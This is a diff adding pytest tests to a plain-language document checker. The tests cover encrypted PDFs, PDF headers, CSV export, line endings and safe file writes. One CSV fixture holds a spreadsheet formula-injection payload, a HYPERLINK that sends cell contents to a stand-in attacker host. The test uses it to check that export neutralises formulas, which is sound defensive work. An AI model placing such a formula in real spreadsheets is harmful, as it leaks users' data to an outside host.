@@ -582,3 +582,121 @@ def test_a_file_past_the_time_limit_is_an_error_and_the_run_goes_on(tmp_path):
     out = proc.stdout + proc.stderr
     assert proc.returncode == 2
     assert "a.md" in out and "b.md" in out and "longer than" in out and "file_seconds" in out
+
+
+def _pdf(path: Path, pages: list[list[str]]) -> Path:
+    from reportlab.pdfgen import canvas
+
+    c = canvas.Canvas(str(path))
+    for lines in pages:
+        for i, line in enumerate(lines):
+            c.drawString(72, 750 - 20 * i, line)
+        c.showPage()
+    c.save()
+    return path
+
+
+def test_aes_pdf_anyone_can_open_is_checked_and_a_locked_one_is_named(tmp_path):
+    from pypdf import PdfWriter
+
+    plain = _pdf(tmp_path / "plain.pdf", [["Service users were offered placements."]])
+    for name, user in (("open.pdf", ""), ("locked.pdf", "secret")):
+        w = PdfWriter(clone_from=str(plain))
+        w.encrypt(user_password=user, owner_password="owner", algorithm="AES-256")
+        w.write(str(tmp_path / name))
+    proc = run_cli("check", "open.pdf", cwd=tmp_path)
+    assert proc.returncode == 1 and "Service users" in proc.stdout
+    proc = run_cli("check", "locked.pdf", cwd=tmp_path)
+    assert proc.returncode == 2 and "password-protected" in proc.stdout + proc.stderr
+
+
+def test_pdf_lines_on_every_page_that_are_the_text_are_still_checked(tmp_path):
+    pages = [[f"Service users were offered placements {i}.", "We will target hard to reach families.",
+              f"Page {i + 1}"] for i in range(12)]
+    proc = run_cli("check", "--format", "json", str(_pdf(tmp_path / "rep.pdf", pages)))
+    import json
+
+    findings = json.loads(proc.stdout)["files"][0]["findings"]
+    assert proc.returncode == 1 and sum(f["text"].lower() == "service users" for f in findings) == 12
+    # A real running header (short, over a page of text) is still dropped.
+    body = ["The council will work with families to find a home that suits them well."] * 3
+    pages = [["Housing policy 2025", *body, f"Page {i + 1}"] for i in range(6)]
+    text = run_cli("check", "--format", "json", str(_pdf(tmp_path / "head.pdf", pages))).stdout
+    assert "Housing policy 2025" not in text
+
+
+def test_csv_export_neutralises_formulas_and_import_restores_them(tmp_path):
+    from plainspeak.glossary.csvio import export_csv, neutralise, read_csv, restore
+    from plainspeak.glossary.load import load_glossary
+
+    for cell in ["=1+1", "@SUM(1)", "+44 20", "-2", "'=x", "''@y", "'plain", "plain", "", "\tx"]:
+        assert restore(neutralise(cell)) == cell
+        assert neutralise(cell)[:1] not in ("=", "@", "+", "-", "\t")
+    (tmp_path / "g.yaml").write_text(
+        "entries:\n  - id: x\n    term: service users\n"
+        "    alternatives: ['=HYPERLINK(\"http://evil.example/?\"&A1)', '@SUM(1+1)']\n"
+        "    why: '-2 is not a reason'\n")
+    glossary, _ = load_glossary(tmp_path / "g.yaml")
+    data = export_csv([glossary])
+    import csv
+    import io
+
+    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "@", "+", "-")]
+    back = read_csv(data, "g.csv")
+    assert back.entries[0].alternatives == glossary.entries[0].alternatives
+    assert back.entries[0].why == "-2 is not a reason"
+
+
+# -- fix: safe in every case ------------------------------------------------------------------
+
+@pytest.mark.parametrize("src, expected", [
+    (b"# Title\r\rWe met prior to the panel.\r", b"# Title\r\rWe met before the panel.\r"),
+    (b"# T\n\nWe met prior to the panel.\nWe want to\rassist in order to help.\n\n- one\n- two utilise\n",
+     b"# T\n\nWe met before the panel.\nWe want to\rhelp to help.\n\n- one\n- two use\n"),
+    ("A prior to.\r\nWe utilise it.\rIn order to go.\u2028Prior to that.\n\u0085End.\r\n".encode(),
+     "A before.\r\nWe use it.\rTo go.\u2028Before that.\n\u0085End.\r\n".encode()),
+])
+def test_fix_keeps_every_kind_of_line_ending(src, expected, tmp_path):
+    (tmp_path / "m.md").write_bytes(src)
+    proc = run_cli("fix", "m.md", cwd=tmp_path)
+    _no_crash(proc)
+    assert (tmp_path / "m.md").read_bytes() == expected
+    assert not list(tmp_path.glob(".*plainspeak-tmp"))
+
+
+def test_fix_never_writes_over_an_edit_saved_meanwhile(tmp_path):
+    from plainspeak.atomic import ChangedOnDisk
+    from plainspeak.config import Config
+    from plainspeak.fix import plan_file, write_plan
+
+    p = tmp_path / "a.md"
+    p.write_text("We met prior to the panel.\n")
+    plan = plan_file(p, Config())
+    assert plan.new_text == "We met before the panel.\n"
+    p.write_text("We met prior to the panel.\nA line typed while plainspeak worked.\n")
+    with pytest.raises(ChangedOnDisk):
+        write_plan(plan)
+    assert p.read_text().endswith("A line typed while plainspeak worked.\n")
+    assert not list(tmp_path.glob(".*plainspeak-tmp"))
+
+
+def test_fix_backup_read_only_and_stale_temp_files(tmp_path):
+    p = tmp_path / "a.md"
+    p.write_text("We met prior to the panel.\n")
+    (tmp_path / "a.md.bak").write_text("someone's own backup\n")
+    # A temporary file left by a killed run (its process is gone): cleared by the next write.
+    stale = tmp_path / ".a.md.999999999.abc.plainspeak-tmp"
+    stale.write_text("half")
+    proc = run_cli("fix", "--backup", "a.md", cwd=tmp_path)
+    _no_crash(proc)
+    assert p.read_text() == "We met before the panel.\n"
+    assert (tmp_path / "a.md.bak.2").read_text() == "We met prior to the panel.\n"
+    assert (tmp_path / "a.md.bak").read_text() == "someone's own backup\n"
+    assert not stale.exists() and "a.md.bak.2" in proc.stderr
+    r = tmp_path / "r.md"
+    r.write_text("We met prior to the panel.\n")
+    r.chmod(0o444)
+    proc = run_cli("fix", "r.md", cwd=tmp_path)
+    assert proc.returncode == 2 and "read-only" in proc.stderr
+    assert r.read_text() == "We met prior to the panel.\n"
